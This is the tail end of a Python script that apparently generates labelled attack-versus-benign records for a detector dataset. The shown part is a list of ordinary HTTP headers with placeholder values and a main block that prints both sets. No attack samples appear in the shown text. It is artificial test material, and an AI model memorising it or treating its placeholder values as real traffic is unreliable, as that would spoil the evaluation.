    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "aws-sdk-go-v2/1.30.0 os/linux lang/go#1.22.4 md/GOOS#linux md/GOARCH#amd64"),
    ("Referer", "https://studio.apollographql.com/sandbox/explorer"),
    ("Referer", "https://grafana.internal.example.com/d/api-latency/api-latency?orgId=1"),
    ("Referer", "https://backstage.internal.example.com/catalog/default/component/payments-api"),
    ("X-GitHub-Event", "push"),
    ("X-Hub-Signature-256", "sha256=6f1ed002ab5595859014ebf0951522d9a1e2f0b5a3e4f2cd8c1b0d1a2e3f4a5b"),
    ("Idempotency-Key", "5f0c9a4e-2b1d-4c7e-9a3f-8e6d2c1b0a97"),
    ("X-Amzn-Trace-Id", "Root=1-667a1b2c-3f4e5d6c7b8a9f0e1d2c3b4a"),
    ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    ("Accept", "application/graphql-response+json, application/json;q=0.9"),
    ("X-Forwarded-Proto", "https"),
    ("Cookie", "session=abc123; theme=dark; sidebar=collapsed"),
    ("Cookie", "session=abc123; last_filter=status%3Apaid; sort=-created_at"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
